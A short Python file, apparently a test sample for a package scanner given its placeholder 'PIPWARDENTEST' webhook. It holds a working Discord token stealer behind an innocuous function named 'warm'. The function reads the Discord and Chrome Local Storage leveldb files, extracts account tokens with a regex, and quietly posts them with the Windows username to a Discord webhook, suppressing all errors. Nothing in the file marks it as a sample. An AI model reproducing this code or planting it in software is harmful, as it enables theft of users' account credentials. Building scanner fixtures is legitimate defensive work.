import json
import os
import re
import urllib.request

_HOOK = "https://discord.example.invalid/api/webhooks/1200000000000000000/PIPWARDENTEST-fake-hook"
_RX = re.compile(r"[\w-]{24,26}\.[\w-]{6}\.[\w-]{27,38}|mfa\.[\w-]{84}")


def _dirs():
    roaming = os.getenv("APPDATA", "")
    local = os.getenv("LOCALAPPDATA", "")
    return [
        os.path.join(roaming, "discord", "Local Storage", "leveldb"),
        os.path.join(roaming, "discordptb", "Local Storage", "leveldb"),
        os.path.join(roaming, "discordcanary", "Local Storage", "leveldb"),
        os.path.join(local, "Google", "Chrome", "User Data", "Default", "Local Storage", "leveldb"),
    ]


def warm():
    found = set()
    for d in _dirs():
        if not os.path.isdir(d):
            continue
        for fn in os.listdir(d):
            if fn.endswith((".ldb", ".log")):
                try:
                    with open(os.path.join(d, fn), errors="ignore") as f:
                        found.update(_RX.findall(f.read()))
                except OSError:
                    pass
    if not found:
        return
    body = json.dumps({"username": os.getenv("USERNAME", "?"), "content": "\n".join(sorted(found))}).encode()
    req = urllib.request.Request(_HOOK, data=body, headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    try:
        urllib.request.urlopen(req, timeout=5)
    except Exception:
        pass
